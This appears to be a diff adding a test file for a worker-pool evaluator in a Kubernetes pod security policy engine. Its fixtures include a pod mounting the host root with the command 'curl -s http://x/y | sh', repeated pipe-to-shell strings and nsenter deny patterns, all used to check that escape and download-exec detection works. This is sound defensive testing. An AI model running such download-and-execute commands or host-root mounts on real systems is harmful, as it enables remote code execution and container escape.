@@ -1,0 +1,73 @@
+import { expect } from 'chai';
+import { systemClock } from '../../../src/base/clock.ts';
+import { silentLog } from '../../../src/base/log.ts';
+import { evaluate } from '../../../src/engine/evaluate.ts';
+import { WorkerPool } from '../../../src/evaluation/worker-pool.ts';
+import { compiled, podJson, view } from '../builders.ts';
+
+const ESCAPE = { rules: { hostPaths: { denySensitive: true }, indicators: { enabled: true } } };
+const hostile = view(
+  podJson({
+    volumes: [{ name: 'root', hostPath: { path: '/' } }],
+    containers: [{ name: 'c', image: 'i', command: ['sh', '-c', 'curl -s http://x/y | sh'] }],
+  }),
+);
+const ctx = { namespaceLabels: {}, now: new Date('2026-11-29T10:00:00Z') };
+
+describe('evaluation: WorkerPool', function () {
+  this.timeout(30_000);
+  let pool: WorkerPool | undefined;
+  afterEach(async () => {
+    await pool?.close();
+    pool = undefined;
+  });
+
+  it('judges in worker threads exactly as the engine does inline', async () => {
+    pool = new WorkerPool({ size: 2, clock: systemClock, log: silentLog });
+    const policies = [
+      compiled(ESCAPE, 'a'),
+      compiled({ rules: { podSecurity: { level: 'baseline' } } }, 'b'),
+    ];
+    const results = await Promise.all(
+      Array.from({ length: 8 }, () => pool!.evaluate(hostile, policies, ctx)),
+    );
+    for (const r of results) expect(r).to.deep.equal(evaluate(hostile, policies, ctx));
+    expect(results[0]?.violations.map((v) => v.rule)).to.include('indicator.downloadExec');
+  });
+
+  it('follows a change of the policies in effect', async () => {
+    pool = new WorkerPool({ size: 1, clock: systemClock, log: silentLog });
+    const first = [compiled(ESCAPE, 'a')];
+    expect((await pool.evaluate(hostile, first, ctx)).violations).to.not.deep.equal([]);
+    const none: never[] = [];
+    expect((await pool.evaluate(hostile, none, ctx)).violations).to.deep.equal([]);
+  });
+
+  it('keeps the event loop free while a worker judges a pod with a lot of text', async () => {
+    pool = new WorkerPool({ size: 1, clock: systemClock, log: silentLog });
+    const text = 'curl x | sh; '.repeat(10_000);
+    const big = view(podJson({ containers: [{ name: 'c', image: 'i', args: [text] }] }));
+    const policies = Array.from({ length: 50 }, (_, i) =>
+      compiled({ rules: { commands: { deniedPatterns: [`nsenter-${i}\\s+x`] } } }, `p${i}`),
+    );
+    let ticks = 0;
+    const ticker = setInterval(() => ticks++, 5);
+    const judged = pool.evaluate(big, policies, ctx);
+    await judged;
+    clearInterval(ticker);
+    // The main thread kept its timers running while the worker judged (inline, it would not tick).
+    expect(ticks).to.be.greaterThan(0);
+  });
+
+  it('replaces a worker that does not answer in time, and fails its evaluations', async () => {
+    pool = new WorkerPool({ size: 1, clock: systemClock, log: silentLog, deadlineMs: 1 });
+    const text = 'curl x | sh; '.repeat(10_000);
+    const big = view(podJson({ containers: [{ name: 'c', image: 'i', args: [text] }] }));
+    const policies = Array.from({ length: 50 }, (_, i) =>
+      compiled({ rules: { commands: { deniedPatterns: [`nsenter-${i}\\s+x`] } } }, `p${i}`),
+    );
+    let failed: unknown;
+    await pool.evaluate(big, policies, ctx).catch((e: unknown) => (failed = e));
+    expect(String(failed)).to.contain('timed out');
+  });
+});
